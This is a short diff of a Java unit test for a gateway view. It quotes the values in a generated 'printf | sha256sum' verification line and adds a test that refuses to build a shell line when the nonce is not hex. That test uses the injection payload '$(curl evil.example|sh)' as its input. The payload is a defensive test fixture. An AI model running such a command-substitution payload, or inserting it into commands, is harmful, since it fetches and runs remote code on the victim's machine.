@@ -114,7 +114,18 @@ class GatewayViewTest {
         assertEquals(commitment, after.commitment());
         assertEquals("-42", after.seed(), "as text: a JavaScript number cannot hold 64 bits");
         assertEquals(nonce, after.nonce());
-        assertEquals("printf '%s:%s' " + nonce + " -42 | sha256sum", after.check());
+        assertEquals("printf '%s:%s' '" + nonce + "' '-42' | sha256sum", after.check());
+    }
+
+    @Test
+    void aNonceThatIsNotThirtyTwoLowercaseHexDigitsGetsNoShellLineToCheckIt() {
+        createSale();
+        String injected = "$(curl evil.example|sh)";
+        view.apply(new LineOpened(meta(), -42, 3, SeededPermutation.ALGORITHM, injected));
+
+        PublicDraw draw = SaleInfo.of(view.sale("demo").orElseThrow(), NOW).draw();
+        assertNull(draw.check(), "nothing to paste into a shell");
+        assertEquals("-42", draw.seed());
     }
 
     @Test
